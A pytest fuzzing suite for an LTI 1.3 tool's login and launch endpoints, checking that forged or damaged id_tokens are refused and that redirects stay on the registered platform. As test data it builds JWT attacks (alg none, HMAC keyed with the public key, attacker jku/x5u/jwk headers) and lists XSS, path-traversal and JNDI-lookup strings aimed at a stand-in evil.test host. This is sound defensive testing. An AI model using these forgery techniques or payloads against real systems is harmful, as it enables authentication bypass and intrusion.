"""Mutation fuzzing of LTI logins and launches (security.md S3), thousands of mutants a run.

The starting point is a launch made by an independent platform implementation
(``lti1p3platform``, tests/lti/peer.py): its id_token's header and claims, re-signed for each
mutant with the platform's real key and the nonce of a fresh login, so that a changed claim
reaches the claim checks instead of failing at the signature. Every mutant has its own login.

- ``refused``: changed security claims (dropped, retyped, wrong values, shifted times), header
  attacks (alg none / HS256 / other algs, unknown or odd kids, jku/x5u/jwk with the attacker's
  key), byte-level damage to the JWS, and damaged launch forms (missing, repeated, oversized
  fields, wrong content types, another login's state, no state cookie). **0 accepted, 0 5xx.**
- ``tolerated``: claims a platform may vary (names, email, context, roles' contents, custom,
  unknown claims) set to garbage: never a 5xx, and an accepted launch's page renders.
- ``logins``: damaged login initiations: never a 5xx, and a redirect only ever goes to the
  registered platform's authorization URL.

Unmutated controls run among the mutants and must be accepted, so the mutants are refused for
what was changed, not because the harness broke. CI (``HYPOTHESIS_PROFILE=ci``) runs a fixed
seed; otherwise each run draws a new one. ``MICROCRED_LAUNCH_FUZZ_SEED`` and
``MICROCRED_LAUNCH_FUZZ_MUTANTS`` (default 2000 refused + 500 tolerated + 500 logins) explore
more; a failure names its seed and index, and ``MICROCRED_LAUNCH_FUZZ_ONLY=<index>`` replays one.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import os
import random
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import parse_qs, urlencode, urlsplit

import httpx
import pytest
from cryptography.hazmat.primitives import serialization
from fastapi.testclient import TestClient
from sqlalchemy import Engine, func
from sqlmodel import select

from service.db.engine import session as db_session
from service.db.models import WebSession
from service.settings import Settings
from service.web.auth import SESSION_COOKIE
from tests.lti.peer import ISSUER, Peer
from tests.lti.platform import LAUNCH, C, b64, public_jwk, rsa_key, sign_raw

pytestmark = pytest.mark.fuzz

PROFILE_SEED = 14 if os.environ.get("HYPOTHESIS_PROFILE") == "ci" else random.randrange(10**6)
SEED = int(os.environ.get("MICROCRED_LAUNCH_FUZZ_SEED", PROFILE_SEED))
MUTANTS = int(os.environ.get("MICROCRED_LAUNCH_FUZZ_MUTANTS", "2000"))
ONLY = os.environ.get("MICROCRED_LAUNCH_FUZZ_ONLY")
CONTROL_EVERY = 100
PEER_KEY = rsa_key(6)  # tests/lti/peer.py signs with key 6
ATTACKER_KEY = rsa_key(5)


@pytest.fixture
def settings(settings: Settings) -> Settings:
    # thousands of logins from one address: the rate limit has tests of its own
    return settings.model_copy(update={"lti_rate_limit_per_minute": 0})


def _unb64(part: str) -> bytes:
    return base64.urlsafe_b64decode(part + "=" * (-len(part) % 4))


@dataclass
class Harness:
    """A fresh login per mutant; the peer's launch as the template of every id_token."""

    client: TestClient
    peer: Peer
    engine: Engine
    header: dict[str, Any] = field(default_factory=dict)
    claims: dict[str, Any] = field(default_factory=dict)
    login_query: str = ""
    accepted: int = 0  # launches that opened a session (controls and tolerated mutants)
    last_valid: str = ""  # the token a byte-level mutant was made from

    def start(self) -> None:
        login = urlsplit(self.peer.login_url())
        self.login_query = login.query
        resp = self.client.get(f"{login.path}?{login.query}", follow_redirects=False)
        assert resp.status_code == 302, resp.text
        form = self.peer.launch_form(resp.headers["location"])
        head, body, _ = form["id_token"].split(".")
        self.header = json.loads(_unb64(head))
        self.claims = json.loads(_unb64(body))
        # the peer's own launch is accepted: the template is valid
        launched = self.client.post(
            "/lti/launch", data={"id_token": form["id_token"], "state": form["state"]}
        )
        assert launched.status_code == 200, launched.text[:300]
        self.accepted += 1

    def login(self) -> tuple[str, str]:
        """A fresh login: (state, nonce); the state cookie is in the client."""
        resp = self.client.get(f"/lti/login?{self.login_query}", follow_redirects=False)
        assert resp.status_code == 302, resp.text
        query = parse_qs(urlsplit(resp.headers["location"]).query)
        return query["state"][0], query["nonce"][0]

    def fresh_claims(self, nonce: str) -> dict[str, Any]:
        now = int(time.time())
        return json.loads(json.dumps(self.claims)) | {"nonce": nonce, "iat": now, "exp": now + 60}

    def sign(self, claims: Any, header: dict[str, Any] | None = None) -> str:
        return sign_raw(self.header if header is None else header, claims, PEER_KEY)

    def post(self, **kwargs: Any) -> httpx.Response:
        return self.client.post("/lti/launch", follow_redirects=False, **kwargs)

    def sessions(self) -> int:
        with db_session(self.engine) as s:
            return int(s.exec(select(func.count()).select_from(WebSession)).one())


@pytest.fixture
def harness(client: TestClient, peer: Peer, engine: Engine) -> Harness:
    h = Harness(client, peer, engine)
    h.start()
    return h


def _opened_a_session(resp: httpx.Response) -> bool:
    return (
        resp.status_code < 400
        or SESSION_COOKIE in resp.headers.get("set-cookie", "")
        or "mc_session" in resp.headers.get("location", "")
    )


# --- values ----------------------------------------------------------------------------------

WEIRD_STRINGS = [
    "",
    " ",
    "\u202e\u200b",
    "ünïcödé ✓ 🎓",
    "'\"><script>alert(1)</script>",
    "%00%ff",
    "a\\u0000b",
    "\ud7ff\ue000\U0010ffff",
    "${jndi:ldap://evil.test/a}",
    "../../etc/passwd",
    "null",
    "1e309",
]


def _garbage(rng: random.Random, depth: int = 0) -> Any:
    """Any JSON value: wrong types, huge and odd strings, deep or wide nesting."""
    kind = rng.randrange(12 if depth < 3 else 8)
    if kind == 0:
        return None
    if kind == 1:
        return rng.choice([True, False])
    if kind == 2:
        return rng.choice([0, -1, 1, 2**31, 2**63, -(2**64), 10**30])
    if kind == 3:
        return rng.choice([0.5, -1e308, 1e308, 3.14])
    if kind == 4:
        return rng.choice(WEIRD_STRINGS)
    if kind == 5:
        return "".join(chr(rng.randrange(0x20, 0x2FFF)) for _ in range(rng.randrange(1, 40)))
    if kind == 6:
        return rng.choice(["x" * 10_000, "é" * 30_000, "https://" + "a" * 5000 + ".test/"])
    if kind == 7:
        return rng.choice([[], {}, [[[]]], {"": {}}])
    if kind == 8:
        return [_garbage(rng, depth + 1) for _ in range(rng.randrange(1, 4))]
    if kind == 9:
        return {rng.choice(WEIRD_STRINGS) or "k": _garbage(rng, depth + 1)}
    if kind == 10:
        nested: Any = "deep"
        for _ in range(rng.choice([50, 400])):
            nested = {"a": nested} if rng.random() < 0.5 else [nested]
        return nested
    return [rng.choice(WEIRD_STRINGS) for _ in range(rng.randrange(100, 2000))]


def _is_number(value: Any) -> bool:
    return isinstance(value, int | float) and not isinstance(value, bool)


def _different(rng: random.Random, original: Any, allowed: Callable[[Any], bool]) -> Any:
    """A garbage value that is not an accepted spelling of ``original``."""
    for _ in range(20):
        value = _garbage(rng)
        if value != original and not allowed(value):
            return value
    return {"not": "it"}


# --- refused mutants -------------------------------------------------------------------------

MUST_HAVE = [
    "iss",
    "aud",
    "sub",
    "exp",
    "iat",
    "nonce",
    C + "deployment_id",
    C + "message_type",
    C + "version",
    C + "target_link_uri",
    C + "resource_link",
    C + "roles",
]
EXACT = ["iss", "nonce", C + "deployment_id", C + "version", C + "message_type"]


@dataclass
class Mutant:
    name: str
    data: Any = None  # form fields (a dict, or a list of pairs), or raw content
    content_type: str | None = None
    drop_cookies: bool = False
    state: str | None = None  # the state to send when ``data`` is built later


def _claim_mutant(h: Harness, rng: random.Random, nonce: str) -> tuple[str, str]:
    claims = h.fresh_claims(nonce)
    client_id = h.peer.client_id
    now = int(time.time())
    kind = rng.randrange(9)
    if kind == 0:
        name = rng.choice(MUST_HAVE)
        del claims[name]
        return f"claim {name} dropped", h.sign(claims)
    if kind == 1:
        name = rng.choice([*EXACT, C + "target_link_uri"])
        claims[name] = _different(rng, claims[name], lambda v: False)
        return f"claim {name} changed", h.sign(claims)
    if kind == 2:
        claims["aud"] = _different(rng, claims["aud"], lambda v: v == client_id or v == [client_id])
        return "aud changed", h.sign(claims)
    if kind == 3:
        claims["aud"] = [client_id, rng.choice(["evil-client", "", client_id + " "])]
        claims["azp"] = rng.choice([client_id, None])
        return "aud with an untrusted extra party", h.sign(claims)
    if kind == 4:
        # null is an absent azp
        claims["azp"] = _different(rng, client_id, lambda v: v in (client_id, None))
        return "azp not us", h.sign(claims)
    if kind == 5:
        name = rng.choice(["exp", "iat"])
        if rng.random() < 0.4:
            claims[name] = _different(rng, claims[name], _is_number)
        elif name == "exp":
            claims[name] = now - rng.randrange(120, 10**9)  # past the 60 s leeway
        else:
            claims[name] = now + rng.choice([1, -1]) * rng.randrange(1000, 10**9)
        return f"claim {name} shifted or not a number", h.sign(claims)
    if kind == 6:
        claims[C + "resource_link"] = rng.choice(
            [
                _different(rng, {}, lambda v: isinstance(v, dict)),
                {"title": "no id"},
                {"id": _different(rng, "", lambda v: isinstance(v, str))},
            ]
        )
        return "resource_link broken", h.sign(claims)
    if kind == 7:
        claims[C + "roles"] = _different(rng, [], lambda v: isinstance(v, list))
        return "roles not a list", h.sign(claims)
    claims["sub"] = _different(rng, claims["sub"], lambda v: isinstance(v, str) and len(v) > 0)
    if isinstance(claims["sub"], str) and len(claims["sub"]) <= 255:
        claims["sub"] = "" if rng.random() < 0.5 else "s" * 256
    return "sub empty, too long or not a string", h.sign(claims)


def _hs256(h: Harness, claims: dict[str, Any], secret: bytes, header: dict[str, Any]) -> str:
    head = b64(json.dumps(header).encode())
    body = b64(json.dumps(claims).encode())
    sig = hmac.new(secret, f"{head}.{body}".encode(), hashlib.sha256).digest()
    return f"{head}.{body}.{b64(sig)}"


def _header_mutant(h: Harness, rng: random.Random, nonce: str) -> tuple[str, str]:
    claims = h.fresh_claims(nonce)
    header = dict(h.header)
    kid = header.get("kid")
    kind = rng.randrange(7)
    if kind == 0:
        header["alg"] = rng.choice(["none", "None", "NONE", ""])
        sig = rng.choice(["", "x", h.sign(claims).split(".")[2]])
        token = f"{b64(json.dumps(header).encode())}.{b64(json.dumps(claims).encode())}.{sig}"
        return "alg none", token
    if kind == 1:
        public = PEER_KEY.public_key()
        secret = rng.choice(
            [
                public.public_bytes(
                    serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
                ),
                public.public_bytes(
                    serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
                ),
                json.dumps(public_jwk(PEER_KEY, str(kid))).encode(),
                b"",
            ]
        )
        header["alg"] = rng.choice(["HS256", "HS384", "HS512"])
        return "HMAC keyed with the platform's public key", _hs256(h, claims, secret, header)
    if kind == 2:
        header["alg"] = rng.choice(
            [["RS256"], {"RS256": 1}, None, 256, "rs256", "RS512", "PS256", "ES256", "RS256 "]
        )
        return f"alg {header['alg']!r}", h.sign(claims, header)
    if kind == 3:
        choice = rng.randrange(3)
        if choice == 0:
            header.pop("kid", None)
        else:
            header["kid"] = _different(rng, kid, lambda v: False)
        return "kid missing or not the platform's", h.sign(claims, header)
    if kind == 4:
        attacker = dict(header)
        attacker["kid"] = rng.choice([str(kid), "evil"])
        attacker[rng.choice(["jku", "x5u"])] = "https://evil.test/jwks"
        if rng.random() < 0.5:
            attacker["jwk"] = public_jwk(ATTACKER_KEY, "evil")
        return "jku/x5u/jwk with the attacker's key", sign_raw(attacker, claims, ATTACKER_KEY)
    if kind == 5:
        return "signed by another key", sign_raw(header, claims, ATTACKER_KEY)
    bad_header = rng.choice([[], "RS256", None, 5, {"alg": "RS256"}])
    token = f"{b64(json.dumps(bad_header).encode())}.{b64(json.dumps(claims).encode())}.x"
    return "header not a JSON object with alg and kid", token


B64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"


def _equivalent(mutant: str, valid: str) -> bool:
    """Whether damage left the same token: base64 padding or whitespace added, or a change
    in the unused low bits of a segment's last character, decode to the same bytes."""
    parts = "".join(mutant.split()).replace("=", "").split(".")
    if len(parts) != 3:
        return False
    try:
        return [_unb64(p) for p in parts] == [_unb64(p) for p in valid.split(".")]
    except ValueError:
        return False


def _byte_mutant(h: Harness, rng: random.Random, nonce: str) -> tuple[str, str]:
    valid = h.last_valid = h.sign(h.fresh_claims(nonce))
    head, body, sig = valid.split(".")
    kind = rng.randrange(9)
    if kind == 0:
        chars = list(valid)
        for _ in range(rng.randrange(1, 4)):
            i = rng.randrange(len(chars))
            if chars[i] != ".":
                chars[i] = rng.choice(B64.replace(chars[i], ""))
        return "characters changed", "".join(chars)
    if kind == 1:
        return "truncated", valid[: rng.randrange(len(valid))]
    if kind == 2:
        i = rng.randrange(len(valid) + 1)
        junk = rng.choice(["=", "==", "+", "/", " ", "\n", "é", "\x7f", ".", "..", "%", "\\"])
        return "junk inserted", valid[:i] + junk + valid[i:]
    if kind == 3:
        return "segments rearranged", rng.choice(
            [f"{body}.{head}.{sig}", f"{head}.{body}", f"{head}.{body}.{sig}.{sig}", f".{body}."]
        )
    if kind == 4:
        part = b64(rng.randbytes(rng.randrange(0, 64)))
        i = rng.randrange(3)
        parts = [head, body, sig]
        parts[i] = part
        return f"segment {i} random bytes", ".".join(parts)
    if kind == 5:
        payload = rng.choice(
            [b"[1,2]", b'"claims"', b"null", b"{", b"\xff\xfe", b"{}" * 1000, b"1e999999"]
        )
        return "payload not a JSON object", f"{head}.{b64(payload)}.{sig}"
    if kind == 6:
        deep = "[" * 100_000 + "]" * 100_000
        return "deeply nested payload", f"{head}.{b64(deep.encode())}.{sig}"
    if kind == 7:
        return "oversized", rng.choice([valid + "A" * 70_000, "a" * 70_000 + ".b.c"])
    forged = h.fresh_claims(nonce) | {"sub": "admin"}
    return "payload swapped after signing", f"{head}.{b64(json.dumps(forged).encode())}.{sig}"


def _form_mutant(h: Harness, rng: random.Random, state: str, nonce: str) -> Mutant:
    token = h.sign(h.fresh_claims(nonce))
    kind = rng.randrange(10)
    if kind == 0:
        return Mutant("id_token missing", {"state": state})
    if kind == 1:
        return Mutant("state missing", {"id_token": token})
    if kind == 2:
        wrong = rng.choice(["", "x", "stäte", state + "x", state[:-1], "A" * 5000])
        return Mutant("state wrong", {"id_token": token, "state": wrong})
    if kind == 3:
        other_state, _ = h.login()
        return Mutant("another login's state", {"id_token": token, "state": other_state})
    if kind == 4:
        # the last value of a repeated field counts: the damaged one comes last
        pairs = [("id_token", token), ("state", state), ("id_token", token[:-5])]
        if rng.random() < 0.5:
            pairs = [("state", state), ("id_token", token), ("state", "not-the-state")]
        return Mutant("field repeated", pairs)
    if kind == 5:
        kind_of = rng.choice(["application/json", "text/plain", "application/xml", ""])
        fields = {"id_token": token, "state": state}
        body = json.dumps(fields) if kind_of == "application/json" else urlencode(fields)
        return Mutant(f"content type {kind_of!r}", body, content_type=kind_of)
    if kind == 6:
        return Mutant("no state cookie", {"id_token": token, "state": state}, drop_cookies=True)
    if kind == 7:
        big = rng.choice(["id_token", "state"])
        fields = {"id_token": token, "state": state}
        fields[big] = fields[big] + "A" * rng.choice([70_000, 300_000])
        return Mutant(f"oversized {big}", fields)
    if kind == 8:
        fields = {"id_token": token + "\x00", "state": state}
        return Mutant("NUL in the token", fields)
    raw = f"id_token={token}&state={state}".encode()
    i = rng.randrange(len(raw))
    return Mutant(
        "broken url-encoding",
        raw[:i] + rng.choice([b"%", b"%zz", b"%ff%fe", b"%00", b"\xff"]) + raw[i:],
        content_type="application/x-www-form-urlencoded",
    )


def _send(h: Harness, mutant: Mutant, state: str) -> httpx.Response:
    if mutant.drop_cookies:
        h.client.cookies.clear()
    if isinstance(mutant.data, bytes | str):
        headers = {"content-type": mutant.content_type} if mutant.content_type else {}
        return h.post(content=mutant.data, headers=headers)
    if isinstance(mutant.data, list):
        return h.post(
            content=urlencode(mutant.data),
            headers={"content-type": "application/x-www-form-urlencoded"},
        )
    return h.post(data=mutant.data if mutant.data is not None else {"state": state})


def _indices(count: int) -> list[int]:
    return [int(ONLY)] if ONLY is not None else list(range(count))


def _fail_message(failures: list[str], count: int) -> str:
    return (
        f"{len(failures)} of {count} mutants failed (seed {SEED}; replay one with "
        f"MICROCRED_LAUNCH_FUZZ_SEED={SEED} MICROCRED_LAUNCH_FUZZ_ONLY=<index>):\n"
        + "\n".join(failures[:20])
    )


def test_mutated_launches_are_all_refused(harness: Harness) -> None:
    failures: list[str] = []
    kinds: dict[str, int] = {}
    controls = 0
    for i in _indices(MUTANTS):
        rng = random.Random(f"{SEED}:{i}")
        if i % CONTROL_EVERY == 0:
            state, nonce = harness.login()
            resp = harness.post(
                data={"id_token": harness.sign(harness.fresh_claims(nonce)), "state": state}
            )
            assert resp.status_code == 303, ("control", i, resp.text[:300])
            harness.accepted += 1
            controls += 1
        state, nonce = harness.login()
        family = rng.randrange(4)
        if family == 3:
            mutant = _form_mutant(harness, rng, state, nonce)
        else:
            make = (_claim_mutant, _header_mutant, _byte_mutant)[family]
            name, token = make(harness, rng, nonce)
            if family == 2 and _equivalent(token, harness.last_valid):
                continue  # damage that decodes to the same token is no mutant
            mutant = Mutant(name, {"id_token": token, "state": state})
        kinds[mutant.name] = kinds.get(mutant.name, 0) + 1
        try:
            resp = _send(harness, mutant, state)
        except Exception as exc:  # the test client re-raises the app's unhandled errors
            failures.append(f"#{i} {mutant.name}: server error {type(exc).__name__}: {exc}")
            continue
        if resp.status_code >= 500 or _opened_a_session(resp):
            failures.append(f"#{i} {mutant.name}: {resp.status_code} {resp.text[:200]!r}")
    assert not failures, _fail_message(failures, MUTANTS)
    assert harness.sessions() == harness.accepted  # the controls' sessions, and no other
    if ONLY is None:
        assert controls == MUTANTS // CONTROL_EVERY + (MUTANTS % CONTROL_EVERY > 0)
        assert len(kinds) >= 40, sorted(kinds)  # the families all ran


# --- tolerated mutants: claims a platform may vary -------------------------------------------

TOLERATED = [
    "name",
    "given_name",
    "family_name",
    "email",
    "picture",
    "locale",
    C + "context",
    C + "custom",
    C + "launch_presentation",
    C + "tool_platform",
    C + "lis",
    "https://purl.imsglobal.org/spec/lti-ags/claim/endpoint",
    "https://purl.imsglobal.org/spec/lti-nrps/claim/namesroleservice",
    "https://example.edu/claim/unknown",
]


def _tolerated_claims(h: Harness, rng: random.Random, nonce: str) -> tuple[str, dict[str, Any]]:
    claims = h.fresh_claims(nonce)
    kind = rng.randrange(4)
    if kind == 0:
        names = rng.sample(TOLERATED, rng.randrange(1, 4))
        for name in names:
            claims[name] = _garbage(rng)
        return f"garbage in {', '.join(n.rsplit('/', 1)[-1] for n in names)}", claims
    if kind == 1:
        claims[C + "roles"] = [
            rng.choice([*WEIRD_STRINGS, "x" * 5000, C + "Instructor#" + "é" * 100])
            for _ in range(rng.randrange(0, 300))
        ]
        return "roles of odd strings", claims
    if kind == 2:
        context = claims.get(C + "context") or {}
        context = context if isinstance(context, dict) else {}
        for key in rng.sample(["id", "title", "label", "type"], rng.randrange(1, 4)):
            context[key] = _garbage(rng)
        claims[C + "context"] = context
        return "odd context fields", claims
    claims["sub"] = rng.choice([*[s for s in WEIRD_STRINGS if s], "s" * 255, "ü" * 255])
    return "odd but valid sub", claims


def test_launches_with_odd_but_tolerated_claims_never_fail(harness: Harness) -> None:
    """Claims a platform may vary, set to garbage: a clean 4xx, or a launch whose page renders."""
    failures: list[str] = []
    count = MUTANTS // 4
    for i in _indices(count):
        rng = random.Random(f"{SEED}:tolerated:{i}")
        state, nonce = harness.login()
        name, claims = _tolerated_claims(harness, rng, nonce)
        try:
            resp = harness.post(data={"id_token": harness.sign(claims), "state": state})
            if resp.status_code == 303:
                harness.accepted += 1
                page = harness.client.get(resp.headers["location"])
                if page.status_code != 200:
                    failures.append(f"#{i} {name}: landing page {page.status_code}")
            elif not 400 <= resp.status_code < 500:
                failures.append(f"#{i} {name}: {resp.status_code} {resp.text[:200]!r}")
        except Exception as exc:  # the test client re-raises the app's unhandled errors
            failures.append(f"#{i} {name}: server error {type(exc).__name__}: {exc}")
    assert not failures, _fail_message(failures, count)
    assert harness.sessions() == harness.accepted


# --- login initiations -----------------------------------------------------------------------

LOGIN_FIELDS = [
    "iss",
    "login_hint",
    "target_link_uri",
    "lti_message_hint",
    "client_id",
    "lti_deployment_id",
    "lti_storage_target",
]


def _login_mutant(h: Harness, rng: random.Random) -> tuple[str, dict[str, Any]]:
    """A damaged login initiation, as keyword arguments of the test client's request."""
    fields = {k: v[0] for k, v in parse_qs(h.login_query).items()}
    kind = rng.randrange(6)
    if kind == 0:
        name = rng.choice(LOGIN_FIELDS)
        fields.pop(name, None)
        what = f"{name} missing"
    elif kind == 1:
        name = rng.choice(LOGIN_FIELDS)
        value = _garbage(rng)
        fields[name] = value if isinstance(value, str) else json.dumps(value)
        what = f"{name} garbage"
    elif kind == 2:
        name = rng.choice(["iss", "target_link_uri"])
        fields[name] = rng.choice(
            [
                "https://evil.test",
                "http://peer-lms.test",
                ISSUER + "/",
                ISSUER.upper(),
                "javascript:alert(1)",
                "https://tool.test.evil.test/lti/launch",
                "//evil.test/lti/launch",
                LAUNCH + "/../../evil",
                LAUNCH + "?next=https://evil.test",
            ]
        )
        what = f"{name} elsewhere"
    elif kind == 3:
        pairs = [*fields.items(), (rng.choice(LOGIN_FIELDS), rng.choice(WEIRD_STRINGS))]
        return "field repeated", {
            "method": "POST",
            "content": urlencode(pairs),
            "headers": {"content-type": "application/x-www-form-urlencoded"},
        }
    elif kind == 4:
        kind_of = rng.choice(["application/json", "text/plain", "multipart/form-data", ""])
        return f"login as {kind_of!r}", {
            "method": "POST",
            "content": json.dumps(fields) if "json" in kind_of else urlencode(fields),
            "headers": {"content-type": kind_of} if kind_of else {},
        }
    else:
        size = rng.choice([3000, 70_000])
        fields[rng.choice(LOGIN_FIELDS)] = "A" * size
        what = "oversized field"
        if size > 5000:  # too long for a URL (the test client refuses it)
            return f"{what} (POST)", {"method": "POST", "data": fields}
    method = rng.choice(["GET", "POST"])
    if method == "GET" and len(urlencode(fields)) <= 6000:  # longer: not a URL to send
        return f"{what} (GET)", {"method": "GET", "params": fields}
    return f"{what} (POST)", {"method": "POST", "data": fields}


def test_damaged_logins_never_fail_and_redirect_only_to_the_platform(harness: Harness) -> None:
    failures: list[str] = []
    count = MUTANTS // 4
    for i in _indices(count):
        rng = random.Random(f"{SEED}:login:{i}")
        name, request = _login_mutant(harness, rng)
        try:
            resp = harness.client.request(url="/lti/login", follow_redirects=False, **request)
        except Exception as exc:  # the test client re-raises the app's unhandled errors
            failures.append(f"#{i} {name}: server error {type(exc).__name__}: {exc}")
            continue
        location = resp.headers.get("location", "")
        if resp.status_code >= 500:
            failures.append(f"#{i} {name}: {resp.status_code} {resp.text[:200]!r}")
        elif resp.is_redirect and not location.startswith(ISSUER + "/auth?"):
            failures.append(f"#{i} {name}: redirected to {location[:200]!r}")
        elif resp.status_code == 200 and f'"{ISSUER}/auth?' not in resp.text:
            # the platform-storage page, which sends the browser on to the platform only
            failures.append(f"#{i} {name}: a page that does not go to the platform")
        elif resp.status_code != 200 and not resp.is_redirect and not resp.is_client_error:
            failures.append(f"#{i} {name}: {resp.status_code}")
    assert not failures, _fail_message(failures, count)
